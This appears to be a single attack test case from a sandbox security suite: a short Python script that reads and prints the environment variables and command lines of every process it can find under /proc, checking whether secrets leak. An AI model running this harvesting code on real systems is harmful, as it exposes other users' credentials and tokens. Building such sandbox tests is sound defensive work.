# /// attack
# category = "secrets"
# kind = "stdio"
# success = "canary:ENV"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Reads the environment and the command line of every process it can list or guess."
# ///

import os

try:
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    pids = list(range(1, 5000))
for pid in pids:
    for leaf in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{leaf}", "rb") as file:
                print(pid, leaf, file.read())
        except OSError:
            pass
